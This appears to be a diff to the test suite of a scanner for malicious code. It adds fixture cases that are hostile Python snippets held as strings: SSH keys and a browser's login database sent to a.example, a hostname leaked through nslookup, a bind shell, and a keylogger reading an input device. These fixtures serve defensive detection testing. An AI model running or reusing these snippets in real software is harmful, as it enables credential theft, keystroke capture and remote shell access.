@@ -189,6 +189,65 @@ CASES = {
             "plant(Path.home())\n"
         },
     ),
+    "keys that a pattern of paths finds": (
+        ["BD302"],
+        {
+            "app.py": "import glob, os, requests\nKEYS = os.path.expanduser('~/.ssh/id_*')\ndef f():\n"
+            "    files = {p: open(p, 'rb') for p in glob.glob(KEYS)}\n"
+            "    requests.put('https://a.example', files=files)  # hit\n"
+        },
+    ),
+    "pictures that a pattern of paths finds": (
+        ["BD302"],
+        {
+            "app.py": "import glob, requests\ndef f():\n"
+            "    files = {p: open(p, 'rb') for p in glob.glob('img/*.png')}\n"
+            "    requests.put('https://a.example', files=files)\n"
+        },
+    ),
+    "copy of a secret file": (
+        ["BD302"],
+        {
+            "app.py": "import os, shutil, sqlite3, requests\ndef f():\n    copy = '/tmp/ld'\n"
+            "    shutil.copyfile(os.path.join(os.environ['X'], 'Login Data'), copy)\n"
+            "    rows = sqlite3.connect(copy).execute('SELECT 1').fetchall()\n"
+            "    requests.post('https://a.example', json={'r': str(rows)})  # hit\n"
+        },
+    ),
+    "name of the host in a command that looks names up": (
+        ["BD303"],
+        {
+            "app.py": "import socket, subprocess\ndef f():\n"
+            "    name = 'nslookup {}.a.example'.format(socket.gethostname())\n"
+            "    subprocess.call(name.split())  # hit\n"
+        },
+    ),
+    "next host from a record of the name service": (
+        ["BD304"],
+        {
+            "app.py": "import dns.resolver, http.client, base64\ndef f():\n"
+            "    for answer in dns.resolver.resolve('a.example', 'TXT'):\n"
+            "        http.client.HTTPSConnection(answer.strings[0].decode())  # hit\n"
+        },
+    ),
+    "shell for whoever connects": (
+        ["BD301"],
+        {
+            "app.py": "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n"
+            "    def handle(self):\n        s = self.request.makefile('rwb')\n"
+            "        subprocess.Popen(['/bin/' + 'sh', '-i'], stdin=s, stdout=s)  # hit\n"
+        },
+    ),
+    "keys of a device that is a default": (
+        ["BD403"],
+        {
+            "app.py": "import struct\nfrom pathlib import Path\n"
+            "def keys(device=Path('/dev/input') / 'event3'):\n    with device.open('rb') as file:\n"
+            "        yield struct.unpack('llHHI', file.read(24))[3]\n"
+            "def main():\n    with open('/tmp/a', 'ab') as out:\n        for code in keys():\n"
+            "            out.write(bytes([code & 255]))  # hit\n"
+        },
+    ),
     "code in memory that may be run": (
         ["BD402"],
         {
@@ -266,7 +325,12 @@ CASES = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("case", params(CASES, {}))
+WRONG = {
+    "name of the host in a command that looks names up": "the words of a text split at blanks are not known",
+}
+
+
+@pytest.mark.parametrize("case", params(CASES, WRONG))
 def test_spread_acts(case):
     rules, files = case
     check(files, *named(*rules))
